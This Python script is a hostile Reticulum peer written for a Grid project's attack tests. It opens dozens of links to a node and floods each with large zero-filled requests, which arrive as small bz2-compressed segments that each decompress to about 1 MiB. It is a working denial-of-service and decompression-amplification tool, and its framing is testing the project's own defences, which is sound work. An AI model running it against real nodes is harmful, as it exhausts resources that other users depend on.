#!/usr/bin/env python3
"""A hostile RNS peer for Grid's attack tests: it opens many links to a Grid node at once
and sends on each, `--rounds` times in a row, a large request made of zeros on `grid/frame` (answered whatever the
node's resource policy). RNS sends it as a split, bz2-compressed resource, so every
segment is a few hundred bytes on the wire but decompresses to about 1 MiB.

Prints JSON lines on stdout: {"event": "ready"}, one {"event": "link", ...} per link
established, one {"event": "request", "link": hex, "ok": bool} per request concluded,
and finally {"event": "done", "links": n, "answered": n, "failed": n}.

Usage: resource_flood.py --dir DIR --target HOST:PORT --destination HEX
                         [--links 32] [--size 16000000] [--rounds 1] [--timeout 120]
"""
import argparse
import json
import os
import sys
import threading
import time

import RNS


def emit(**kw):
    sys.stdout.write(json.dumps(kw) + "\n")
    sys.stdout.flush()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dir", required=True)
    ap.add_argument("--target", required=True)
    ap.add_argument("--destination", required=True)
    ap.add_argument("--links", type=int, default=32)
    ap.add_argument("--size", type=int, default=16_000_000)
    ap.add_argument("--rounds", type=int, default=1)
    ap.add_argument("--timeout", type=float, default=120)
    args = ap.parse_args()

    host, port = args.target.rsplit(":", 1)
    os.makedirs(args.dir, exist_ok=True)
    with open(os.path.join(args.dir, "config"), "w") as f:
        f.write("\n".join([
            "[reticulum]",
            "  enable_transport = No",
            "  share_instance = No",
            "  panic_on_interface_error = No",
            "[logging]",
            "  loglevel = 2",
            "[interfaces]",
            "  [[victim]]",
            "    type = TCPClientInterface",
            f"    target_host = {host}",
            f"    target_port = {port}",
            "    enabled = yes",
        ]) + "\n")
    RNS.Reticulum(args.dir)

    dest = bytes.fromhex(args.destination)
    deadline = time.time() + 30
    while time.time() < deadline and RNS.Identity.recall(dest) is None:
        if not RNS.Transport.has_path(dest):
            RNS.Transport.request_path(dest)
        time.sleep(0.5)
    identity = RNS.Identity.recall(dest)
    if identity is None:
        emit(event="done", error="no path to the victim", links=0, answered=0, failed=0)
        return
    emit(event="ready")
    out = RNS.Destination(identity, RNS.Destination.OUT, RNS.Destination.SINGLE, "grid", "node")

    lock = threading.Lock()
    counts = {"links": 0, "answered": 0, "failed": 0}
    concluded = threading.Event()

    def send(link, round):
        link.request("grid/frame", bytes(args.size),
                     response_callback=lambda r: conclude(link, round, True),
                     failed_callback=lambda r: conclude(link, round, False),
                     timeout=args.timeout)

    def conclude(link, round, ok):
        with lock:
            counts["answered" if ok else "failed"] += 1
            if counts["answered"] + counts["failed"] >= args.links * args.rounds:
                concluded.set()
        emit(event="request", link=link.link_id.hex(), ok=ok)
        if round + 1 < args.rounds:
            threading.Thread(target=send, args=(link, round + 1), daemon=True).start()

    def established(link):
        with lock:
            counts["links"] += 1
        emit(event="link", link=link.link_id.hex())
        threading.Thread(target=send, args=(link, 0), daemon=True).start()

    links = [RNS.Link(out, established_callback=established) for _ in range(args.links)]
    concluded.wait(args.timeout)
    with lock:
        emit(event="done", **counts)
    for link in links:
        link.teardown()
    time.sleep(0.5)


if __name__ == "__main__":
    main()
